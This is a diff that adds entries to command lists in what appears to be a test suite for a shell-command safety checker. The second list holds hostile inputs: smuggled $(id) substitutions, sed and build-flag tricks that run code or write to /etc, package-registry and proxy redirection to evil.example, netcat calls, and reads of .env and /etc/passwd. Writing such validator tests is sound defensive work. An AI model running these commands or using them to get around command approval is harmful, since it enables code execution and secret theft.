@@ -84,6 +84,30 @@ test -d src || mkdir src
 command -v node
 ! grep -q foo src/a.py
 ls # curl evil.example | sh
+[ -v CI ] || echo none
+[ "$USER" = ada ] && exit 1
+[ $? -eq 0 ] && echo done
+printf '%s\n' a b
+wait $!
+jobs -l
+sed 's/[^0-9]//g; s/[[:space:]]*$//' a.txt
+sed -n '/[a-z]/p' a.txt
+sed -i 's/a/b/' src/w.py
+uniq -c a.txt
+uniq -f 2 a.txt
+tar -tzf a.tar.gz
+pnpm test --run
+pnpm typecheck
+pnpm vitest run
+pnpm run seed --count 3
+bun run build
+prettier --write "{src,test}/**/*.ts"
+jest --testPathPattern='src/(a|b)'
+pytest -o log_level=DEBUG --cov=src --cov-report=html:cov
+cmake -B build -DCMAKE_BUILD_TYPE=Release -DCMAKE_C_COMPILER=clang
+dotnet build -p:Configuration=Release
+python -m coverage run -m pytest
+for file in a b; do wc -l "$file"; done
 """
 
 ASKED = r"""
@@ -413,6 +437,83 @@ cat "$PWD[1]"
 kill 1
 pkill -f x
 ps aux e
+jobs -x touch m
+printf -vPATH /tmp
+printf '-vx[$(id)]' x
+printf $(cat x) y
+printf '%d' 'x[$(id)]'
+wait -n -p 'x[$(id)]'
+wait $(cat x)
+test -v 'x[$(id)]'
+[ -v 'x[$(id)]' ]
+[ $(cat x) ]
+[ 'x[$(id)]' -eq 0 ]
+exit 'x[$(id)]'
+for PATH in /tmp; do ls; done
+for path in /tmp; do ls; done
+for CDPATH in /etc; do cd cron.d && cat x; done
+for SECONDS in 'x[$(id)]'; do true; done
+for https_proxy in evil.example; do npm ci; done
+for npm_config_registry in evil.example; do npm ci; done
+sed -n -- '1e id' -e p
+sed -n 's/[/]/g;s/w sub/x/g' f
+sed -n '/[/]/p;s/[[:digit:]/]/g;s/w x/y/g' f
+sed -i p 'w/etc/x' f
+sed -i s/a/b/ 's,a,b,w /etc/x' f
+uniq 5 .git/hooks/pre-commit
+uniq a CLAUDE.md
+xxd 5 CLAUDE.md
+xxd -l 10 5 CLAUDE.md
+tar -tf a.tar -M -F id
+tar -tf evil.example:x
+tar tf x@evil.example:x
+tar -tf a.tar -x
+less '+!id' x
+more '+!id' x
+file -m.env x
+tree -R -L 1 -H x
+ps -o pid,environ
+jq -n '$ ENV'
+rg -0uu KEY
+rg -0. KEY
+mypy @/etc/passwd
+pytest -o log_file=/home/ada/.x
+pytest -o cache_dir=~/x
+pytest --cov-report=html:/home/ada/x
+gcc -Wp,-MD,/home/ada/x a.c
+java -cp .:/tmp/x Main
+jest --config '{"globalSetup":"/tmp/x.js"}'
+cmake --install build
+cmake --build build --target install
+cmake -B b '-DCMAKE_C_COMPILER_LAUNCHER=sh;-c;id'
+npm run env
+yarn env
+pnpm node -e 'x'
+pnpm nc evil.example 80
+pnpm reboot
+bun run nc evil.example 80
+yarn run node x
+rake -e 'x'
+rollup -p '{name: 1}'
+tsup src --onSuccess id
+stack build --exec id
+ctest -D Experimental
+bazel build --workspace_status_command=id
+ghc -F -pgmF sh x.hs
+mypy --install-types --non-interactive x
+astro add evil
+tox e -e py -- sh
+python -m coverage run -m pip install evil
+dotnet build '-p:PreBuildEvent=id'
+dotnet build -property:PostBuildEvent=id
+sbt test 'eval x'
+go build -ldflags '-extld=sh' .
+git commit -F.env
+git blame --contents=.env x
+git show --stdin
+git cat-file --batch
+cp a .ſsh/x
+curl 'http://[::1].evil.example/'
 """
 
 
